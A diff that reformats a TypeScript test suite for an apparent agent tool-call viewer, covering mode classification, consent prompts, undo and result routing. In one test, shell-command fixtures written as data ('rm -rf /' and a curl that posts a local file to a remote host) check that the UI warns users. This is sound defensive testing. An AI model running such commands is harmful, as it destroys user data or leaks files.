@@ -6,21 +6,55 @@ import { isTerminalResult } from '../../src/tool-call/index.ts'
 import { call, done, events, messages, result } from '../adapters/steerable/support.ts'
 import { flow, inBubble, lineOf, press, SLOW, statuses, type FlowOptions } from './support.tsx'
 
-const play = (list: readonly object[], options: FlowOptions = {}) => flow(createSteerableReader(), list, options)
+const play = (list: readonly object[], options: FlowOptions = {}) =>
+  flow(createSteerableReader(), list, options)
 const calls = (...names: string[]) => names.map((name, index) => call(`c${index}`, name))
-const modes = (): (string | undefined)[] => [...document.querySelectorAll<HTMLElement>('[data-handrail="bubble"]')].map(({ dataset }) => dataset.mode)
+const modes = (): (string | undefined)[] =>
+  [...document.querySelectorAll<HTMLElement>('[data-handrail="bubble"]')].map(
+    ({ dataset }) => dataset.mode,
+  )
 const spec = { rules: 'spec' } as const
 
 test('S1 the mode comes from the name by the documented table; an explicit one wins over it', () => {
-  const first = play(calls('get_x', 'list_x', 'read_x', 'search_x', 'create_x', 'update_x', 'add_x', 'set_x', 'delete_x', 'remove_x', 'archive_x', 'drop_x', 'local_x', 'shell_x', 'exec_x'), { policy: spec })
-  expect(modes()).toEqual([...Array<string>(4).fill('read'), ...Array<string>(4).fill('safe_write'), ...Array<string>(4).fill('destructive'), ...Array<string>(3).fill('local')])
+  const first = play(
+    calls(
+      'get_x',
+      'list_x',
+      'read_x',
+      'search_x',
+      'create_x',
+      'update_x',
+      'add_x',
+      'set_x',
+      'delete_x',
+      'remove_x',
+      'archive_x',
+      'drop_x',
+      'local_x',
+      'shell_x',
+      'exec_x',
+    ),
+    { policy: spec },
+  )
+  expect(modes()).toEqual([
+    ...Array<string>(4).fill('read'),
+    ...Array<string>(4).fill('safe_write'),
+    ...Array<string>(4).fill('destructive'),
+    ...Array<string>(3).fill('local'),
+  ])
   first.unmount()
-  play(calls('delete_everything'), { policy: { tools: { delete_everything: { mode: 'safe_write' } } } })
+  play(calls('delete_everything'), {
+    policy: { tools: { delete_everything: { mode: 'safe_write' } } },
+  })
   expect(bubbleOf('c0')).toHaveAttribute('data-mode', 'safe_write')
 })
 
 test('S2 a name that nothing matches is external, assumed, and asks', () => {
-  const sources = () => [...document.querySelectorAll<HTMLElement>('[data-handrail="bubble"]')].map(({ dataset }) => [dataset.mode, dataset.modeSource])
+  const sources = () =>
+    [...document.querySelectorAll<HTMLElement>('[data-handrail="bubble"]')].map(({ dataset }) => [
+      dataset.mode,
+      dataset.modeSource,
+    ])
   const first = play(calls('', 'budget_x', 'forget_me'))
   expect(sources()).toEqual(Array.from({ length: 3 }, () => ['external', 'assumed']))
   expect(Object.values(statuses())).toEqual(Array<string>(3).fill('awaiting_consent'))
@@ -38,16 +72,39 @@ test('S3 the host chooses the rules: as documented, or wide', () => {
 })
 
 test('S4 modes that only other versions know are taken in without harm', () => {
-  const announced = (id: string, mode: string) => ({ type: 'tool_call', payload: { id, name: 'frobnicate', arguments: {}, mode } })
-  play(['external', 'ui', 'synthetic', 'other', 'unknown', '__proto__'].map((mode, index) => announced(`c${index}`, mode)))
+  const announced = (id: string, mode: string) => ({
+    type: 'tool_call',
+    payload: { id, name: 'frobnicate', arguments: {}, mode },
+  })
+  play(
+    ['external', 'ui', 'synthetic', 'other', 'unknown', '__proto__'].map((mode, index) =>
+      announced(`c${index}`, mode),
+    ),
+  )
   expect(modes()).toEqual(Array<string>(6).fill('external'))
 })
 
 test('S5 the status follows from the result; whether it ends the run is another question', () => {
-  play([call('p', 'get_x'), call('d', 'get_x'), result({ success: true }, { callId: 'd' }), call('e', 'get_x'), result({ success: false }, { callId: 'e' })])
+  play([
+    call('p', 'get_x'),
+    call('d', 'get_x'),
+    result({ success: true }, { callId: 'd' }),
+    call('e', 'get_x'),
+    result({ success: false }, { callId: 'e' }),
+  ])
   expect(statuses()).toEqual({ p: 'running', d: 'succeeded', e: 'failed' })
-  const golden = [[{ success: true }, false], [{ success: false }, true], [{ success: false, needsFollowup: true }, false], [{ terminal: true }, true], [{ success: false, terminal: true }, true], [{}, false], [null, false]] as const
-  expect(golden.map(([value]) => isTerminalResult(value))).toEqual(golden.map(([, terminal]) => terminal))
+  const golden = [
+    [{ success: true }, false],
+    [{ success: false }, true],
+    [{ success: false, needsFollowup: true }, false],
+    [{ terminal: true }, true],
+    [{ success: false, terminal: true }, true],
+    [{}, false],
+    [null, false],
+  ] as const
+  expect(golden.map(([value]) => isTerminalResult(value))).toEqual(
+    golden.map(([, terminal]) => terminal),
+  )
 })
 
 test('S6 a local call asks; a destructive one does when the host says so; without anybody to decide nothing runs; a result ends the request', async () => {
@@ -60,13 +117,27 @@ test('S6 a local call asks; a destructive one does when the host says so; withou
   first.unmount()
   const second = play(calls('delete_x'), { policy: { consentFor: ['local', 'destructive'] } })
   expect(statuses()).toEqual({ c0: 'awaiting_consent' })
-  await press(() => screen.queryByRole('button', { name: 'Deny' }), () => expect(second.decisions().map(({ kind }) => kind)).toEqual(['deny']))
+  await press(
+    () => screen.queryByRole('button', { name: 'Deny' }),
+    () => expect(second.decisions().map(({ kind }) => kind)).toEqual(['deny']),
+  )
 })
 
 test('S7 a write shows what it changes; a destructive call is marked as one and can be taken back where the host offers it', async () => {
   const list = events('two-at-once')
-  const { open, user, host } = play([...list.slice(0, 5), result({ success: true }, { callId: 'c2' })], { host: { offerUndo: (record) => (record.call.name === 'delete_event' ? { kind: 'compensate' } : null) } })
-  expect([bubbleOf('c1').dataset.mode, bubbleOf('c2').dataset.mode]).toEqual(['safe_write', 'destructive'])
+  const { open, user, host } = play(
+    [...list.slice(0, 5), result({ success: true }, { callId: 'c2' })],
+    {
+      host: {
+        offerUndo: (record) =>
+          record.call.name === 'delete_event' ? { kind: 'compensate' } : null,
+      },
+    },
+  )
+  expect([bubbleOf('c1').dataset.mode, bubbleOf('c2').dataset.mode]).toEqual([
+    'safe_write',
+    'destructive',
+  ])
   expect((await open('c1')).getAllByText('Lunch').length).toBeGreaterThan(0)
   await user.click(await inBubble('c2').findByRole('button', { name: /^Undo/ }, SLOW))
   await waitFor(() => expect(host.sent.map(({ verb }) => verb)).toEqual(['undo']), SLOW)
@@ -89,7 +160,12 @@ test('S9 message, then data; a success with neither says so; what cannot be JSON
   unmount()
   const cycle: Record<string, unknown> = { big: 10n }
   cycle.self = cycle
-  const second = play([call('a', 'get_x'), result({ success: true }, { callId: 'a' }), call('b', 'get_x'), result({ success: true, data: cycle }, { callId: 'b' })])
+  const second = play([
+    call('a', 'get_x'),
+    result({ success: true }, { callId: 'a' }),
+    call('b', 'get_x'),
+    result({ success: true, data: cycle }, { callId: 'b' }),
+  ])
   expect((await second.open('a')).getByText('Done. The result is empty.')).toBeVisible()
   expect((await second.open('b')).getByText(/^10n?$/)).toBeVisible()
 })
@@ -105,7 +181,10 @@ test('S10 a failure that the agent mends is not the end; what the runtime sugges
 
 test('S11 results go to the call whose id they carry, else to the first that waits; one result is never everybody’s', () => {
   const first = play(events('by-id'))
-  expect(['c1', 'c2'].map((id) => first.record(id).result?.data)).toEqual([{ found: 1 }, { found: 2 }])
+  expect(['c1', 'c2'].map((id) => first.record(id).result?.data)).toEqual([
+    { found: 1 },
+    { found: 2 },
+  ])
   first.unmount()
   play(messages('one-result-of-two'))
   expect(Object.values(statuses())).toEqual(['succeeded', 'running'])
@@ -127,24 +206,41 @@ test('S12 the stream ends with done or with its end; what is still open when it 
 test('S13 closed at first, opened by a button that says so; status and mode are attributes', async () => {
   const { user } = play(events('spec-example'))
   expect(lineOf('c1')).toHaveAttribute('aria-expanded', 'false')
-  expect([bubbleOf('c1').dataset.status, bubbleOf('c1').dataset.mode]).toEqual(['succeeded', 'read'])
+  expect([bubbleOf('c1').dataset.status, bubbleOf('c1').dataset.mode]).toEqual([
+    'succeeded',
+    'read',
+  ])
   await user.click(lineOf('c1'))
   expect(lineOf('c1')).toHaveAttribute('aria-expanded', 'true')
 })
 
 test('S14 a denial by the exact marker is denied and says why; timed out and aborted look different', async () => {
   const { open } = play(events('approvals'))
-  expect(Object.values(statuses())).toEqual(['succeeded', 'denied', 'expired', 'denied', 'cancelled'])
+  expect(Object.values(statuses())).toEqual([
+    'succeeded',
+    'denied',
+    'expired',
+    'denied',
+    'cancelled',
+  ])
   await open('c2')
   expect(bubbleOf('c2')).toHaveTextContent('not that folder')
 })
 
 test('S15 what a command does is said for the whole line, the worst of it first', async () => {
   const first = play([call('c1', 'shell_run', { command: 'echo ok && rm -rf /' })])
-  await waitFor(() => expect(bubbleOf('c1')).toHaveTextContent(/deletes folders with everything in them/), SLOW)
+  await waitFor(
+    () => expect(bubbleOf('c1')).toHaveTextContent(/deletes folders with everything in them/),
+    SLOW,
+  )
   first.unmount()
-  const second = play([call('c1', 'shell_run', { command: 'echo ok; curl -d @notes.txt https://example.com' })])
-  await waitFor(() => expect(bubbleOf('c1')).toHaveTextContent(/sends data to another computer/), SLOW)
+  const second = play([
+    call('c1', 'shell_run', { command: 'echo ok; curl -d @notes.txt https://example.com' }),
+  ])
+  await waitFor(
+    () => expect(bubbleOf('c1')).toHaveTextContent(/sends data to another computer/),
+    SLOW,
+  )
   second.unmount()
   play([call('c1', 'shell_run', { command: 'ls -la' })])
   await act(async () => {})
